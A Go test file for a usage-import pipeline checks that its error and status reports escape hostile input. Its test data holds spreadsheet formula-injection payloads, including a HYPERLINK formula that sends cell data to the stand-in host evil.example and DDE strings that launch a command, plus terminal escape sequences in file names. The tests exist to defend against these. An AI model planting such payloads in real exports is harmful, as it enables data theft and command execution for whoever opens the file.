package pipeline

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"usagedrop/convert"
	"usagedrop/ledger"
)

// readErrorsCSV writes s through writeErrorsCSV to a real file and reads
// its rows back as a spreadsheet would.
func readErrorsCSV(t *testing.T, s convert.Summary) ([]byte, [][]string) {
	t.Helper()
	dst := filepath.Join(t.TempDir(), "errors.csv")
	if err := writeErrorsCSV(dst, s); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(dst)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(b, []byte("\ufeff")) {
		t.Fatal("no BOM: Excel would not read it as UTF-8")
	}
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff"))))
	r.FieldsPerRecord = 6
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("errors.csv does not parse: %v", err)
	}
	return b, rows
}

// Values a spreadsheet would run as formulas come back as text the user
// still recognises; names are escaped to one line.
func TestReportErrorsCSVCellsSafeToOpen(t *testing.T) {
	tests := []struct {
		pr   convert.Problem
		want []string
	}{
		{convert.Problem{Line: 2, Column: "DESCRIPTION", Value: `=HYPERLINK("http://evil.example/?x="&A1,"Click")`, Reason: "bad"},
			[]string{"", "", "2", "DESCRIPTION", `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "bad"}},
		{convert.Problem{Line: 3, Column: "UOM", Value: `+cmd|' /C calc'!A0`, Reason: "bad"},
			[]string{"", "", "3", "UOM", `'+cmd|' /C calc'!A0`, "bad"}},
		{convert.Problem{Line: 4, Column: "UOM", Value: `@SUM(1+1)*cmd|' /C calc'!A0`, Reason: "bad"},
			[]string{"", "", "4", "UOM", `'@SUM(1+1)*cmd|' /C calc'!A0`, "bad"}},
		{convert.Problem{Line: 5, Column: "QTY", Value: `-2+3+cmd|' /C calc'!A0`, Reason: "bad"},
			[]string{"", "", "5", "QTY", `'-2+3+cmd|' /C calc'!A0`, "bad"}},
		{convert.Problem{Line: 6, Column: "QTY", Value: "-5", Reason: "negative"},
			[]string{"", "", "6", "QTY", "-5", "negative"}},
		{convert.Problem{Line: 7, Column: "QTY", Value: "\t=1+1", Reason: "bad"},
			[]string{"", "", "7", "QTY", `\t=1+1`, "bad"}},
		{convert.Problem{Line: 8, Column: "QTY", Value: "a\x00b\nc\xff", Reason: "control"},
			[]string{"", "", "8", "QTY", `a\x00b\nc\xff`, "control"}},
		{convert.Problem{Member: "=evil.csv", Sheet: "@Sheet\u202e1", Line: 9, Column: "UOM", Value: "x", Reason: "=reason"},
			[]string{"'=evil.csv", `'@Sheet\u202e1`, "9", "UOM", "x", "'=reason"}},
		{convert.Problem{Reason: "the file is not a spreadsheet"},
			[]string{"", "", "", "", "", "the file is not a spreadsheet"}},
	}
	var s convert.Summary
	for _, tt := range tests {
		s.Problems = append(s.Problems, tt.pr)
	}
	_, rows := readErrorsCSV(t, s)
	if len(rows) != len(tests)+1 {
		t.Fatalf("%d rows, want a header and %d: %q", len(rows), len(tests), rows)
	}
	for i, tt := range tests {
		if got := rows[i+1]; fmt.Sprintf("%q", got) != fmt.Sprintf("%q", tt.want) {
			t.Errorf("row %d:\n got %q\nwant %q", i+1, got, tt.want)
		}
	}
}

// A hostile file's problems make a report of bounded size whose counts
// stay true.
func TestReportErrorsCSVBounded(t *testing.T) {
	huge := strings.Repeat("9", 5<<20)
	tests := []struct {
		name           string
		problems, more int
		value          string
		listed         int
		closing        string
	}{
		{"all listed", 3, 0, "x", 3, ""},
		{"first 100 of 223", 100, 123, "x", 100,
			"Only the first 100 of 223 problems are listed. Fix them and drop the whole file again to see the rest."},
		{"huge values clipped", 100, 0, huge, 100, ""},
		{"the byte cap lists fewer", 5000, 7, huge, 0, "Only the first "},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var s convert.Summary
			for i := range tt.problems {
				s.Problems = append(s.Problems, convert.Problem{Line: i + 2, Column: "QTY", Value: tt.value, Reason: "not a number"})
			}
			s.MoreProblems = tt.more
			b, rows := readErrorsCSV(t, s)
			if len(b) > errorsCSVMax {
				t.Fatalf("errors.csv is %d bytes, over %d", len(b), errorsCSVMax)
			}
			for _, row := range rows {
				for _, c := range row {
					if len(c) > cellMax+1 {
						t.Fatalf("a cell of %d bytes", len(c))
					}
				}
			}
			last := rows[len(rows)-1][5]
			listed := len(rows) - 1
			if tt.closing != "" {
				listed--
				if !strings.HasPrefix(last, tt.closing) {
					t.Fatalf("last row %q, want %q", last, tt.closing)
				}
				want := fmt.Sprintf("%d of %d problems are listed", listed, tt.problems+tt.more)
				if !strings.Contains(last, want) {
					t.Fatalf("last row %q does not say %q", last, want)
				}
			} else if strings.HasPrefix(last, notListed) {
				t.Fatalf("says not all are listed: %q", last)
			}
			if tt.listed > 0 && listed != tt.listed {
				t.Fatalf("%d listed, want %d", listed, tt.listed)
			}
			if tt.listed == 0 && (listed < 100 || listed >= tt.problems) {
				t.Fatalf("%d listed: the byte cap should list some hundreds", listed)
			}
			if excerpt, n := firstProblems(b, statusProblems); n != listed || strings.Count(excerpt, "\n") > statusProblems+3 {
				t.Fatalf("firstProblems counted %d, want %d; excerpt:\n%s", n, listed, excerpt)
			}
		})
	}
}

func TestReportStatusTextCountsAndCaps(t *testing.T) {
	dir := t.TempDir()
	led, err := ledger.Open(filepath.Join(dir, "ledger.db"), ledger.Options{NoSync: true})
	if err != nil {
		t.Fatal(err)
	}
	defer led.Close()
	p := New(Options{Ledger: led, Spool: filepath.Join(dir, "spool")})

	reject := func(name string, s convert.Summary, columns []string) (status, errors string) {
		t.Helper()
		e, err := led.Create("drop", name, name, 1, "", false)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.MkdirAll(p.spoolDir(e), 0o750); err != nil {
			t.Fatal(err)
		}
		if err := writeErrorsCSV(filepath.Join(p.spoolDir(e), "errors.csv"), s); err != nil {
			t.Fatal(err)
		}
		if _, err := led.Claimed(e.ID, name, "", 1); err != nil {
			t.Fatal(err)
		}
		if _, err := led.Fetched(e.ID, fmt.Sprintf("%x", name)); err != nil {
			t.Fatal(err)
		}
		e, err = led.Rejected(e.ID, len(s.Problems)+s.MoreProblems, ignoredWarning(columns), rejectNote(s))
		if err != nil {
			t.Fatal(err)
		}
		if len(e.History[len(e.History)-1].Note) > noteMax {
			t.Fatalf("reject note of %d bytes", len(e.History[len(e.History)-1].Note))
		}
		rep, err := p.reports(e)
		if err != nil {
			t.Fatal(err)
		}
		if len(rep) != 2 || rep[0].Suffix != statusSuffix || rep[1].Suffix != errorsSuffix {
			t.Fatalf("reports %+v", rep)
		}
		if len(rep[0].Body) > statusTextMax || len(rep[1].Body) > errorsCSVMax {
			t.Fatalf("status.txt %d bytes, errors.csv %d bytes", len(rep[0].Body), len(rep[1].Body))
		}
		return string(rep[0].Body), string(rep[1].Body)
	}
	problems := func(n int, value string) convert.Summary {
		var s convert.Summary
		for i := range n {
			s.Problems = append(s.Problems, convert.Problem{Line: i + 2, Column: "UOM", Value: value, Reason: "The UOM is missing"})
		}
		return s
	}

	s := problems(100, "")
	s.MoreProblems = 123
	status, _ := reject("march.csv", s, nil)
	for _, want := range []string{
		"Not imported: 223 problems need fixing. Nothing was sent to Zuora.\n",
		"The first 100 of 223 problems are listed in the .errors.csv file beside this one",
		"  line 2, UOM: The UOM is missing\n",
		"... and 90 more in the .errors.csv file beside this one",
		"File: march.csv\n",
	} {
		if !strings.Contains(status, want) {
			t.Errorf("status.txt does not say %q:\n%s", want, status)
		}
	}
	if strings.Contains(status, "All ") {
		t.Errorf("status.txt claims every problem is listed:\n%s", status)
	}

	status, _ = reject("two.csv", problems(2, "=1+1"), nil)
	if !strings.HasPrefix(status, "Not imported: 2 problems need fixing.") ||
		!strings.Contains(status, "All 2 are listed in the .errors.csv file beside this one") ||
		!strings.Contains(status, `(you wrote "'=1+1")`) {
		t.Errorf("status.txt:\n%s", status)
	}

	// A hostile drop: a name with a line break and an escape, values of
	// megabytes, half a million extra columns.
	cols := make([]string, 500_000)
	for i := range cols {
		cols[i] = fmt.Sprintf("extra column %d %s", i, strings.Repeat("z", 100))
	}
	s = problems(100, strings.Repeat("\x1b[2J", 1<<20))
	s.MoreProblems = 1_000_000
	status, errs := reject("evil\n\x1b[31m.csv", s, cols)
	if strings.ContainsAny(status, "\x1b") || strings.ContainsAny(errs, "\x1b") {
		t.Fatalf("an escape reached a report:\n%.500q", status)
	}
	for _, want := range []string{
		"File: evil\\n\\x1b[31m.csv\n",
		"The first 100 of 1,000,100 problems are listed",
		"Note: columns not sent to Zuora: extra column 0 ",
		" and 499980 more.",
		"Reference: ",
	} {
		if !strings.Contains(status, want) {
			t.Errorf("status.txt does not say %q:\n%.3000s", want, status)
		}
	}
}

// Every state's status text escapes names and keeps its size whatever the
// ledger holds.
func TestReportStatusTextOtherStates(t *testing.T) {
	dir := t.TempDir()
	led, err := ledger.Open(filepath.Join(dir, "ledger.db"), ledger.Options{NoSync: true})
	if err != nil {
		t.Fatal(err)
	}
	defer led.Close()
	p := New(Options{Ledger: led, Spool: filepath.Join(dir, "spool")})
	huge := strings.Repeat("e", 1<<20)
	parts := make([]ledger.Part, 5000)
	for i := range parts {
		parts[i] = ledger.Part{Name: fmt.Sprintf("part\t%d.csv", i), Records: 1, State: ledger.PartCompleted, ImportID: "imp"}
	}
	tests := []struct {
		state ledger.State
		fn    func(e *ledger.Entry)
		want  []string
	}{
		{ledger.Done, func(e *ledger.Entry) { e.Parts = parts[:1]; e.Records = 1 }, []string{"Imported: 1 usage records in Zuora (import imp).", "File: x\\ny.csv\n"}},
		{ledger.Done, func(e *ledger.Entry) { e.Parts = parts }, []string{"in 5000 imports", `part\t0.csv: 1 records, import imp`, "more bytes)", "Reference: "}},
		{ledger.Failed, func(e *ledger.Entry) { e.LastError = "bad\x1b" + huge }, []string{`Reason: bad\x1beee`, "more bytes)", "Reference: "}},
		{ledger.Failed, func(e *ledger.Entry) { e.Parts = parts[:2]; e.LastError = "Zuora failed" }, []string{"Partly imported: 2 of the file's 2 parts are in Zuora"}},
	}
	for _, tt := range tests {
		e := &ledger.Entry{ID: "id", Name: "x\ny.csv", State: tt.state, Created: time.Now()}
		tt.fn(e)
		got := p.statusText(e, "", 0)
		if len(got) > statusTextMax {
			t.Errorf("%s: %d bytes", tt.state, len(got))
		}
		for _, w := range tt.want {
			if !strings.Contains(got, w) {
				t.Errorf("%s: does not say %q:\n%.1000s", tt.state, w, got)
			}
		}
	}
}
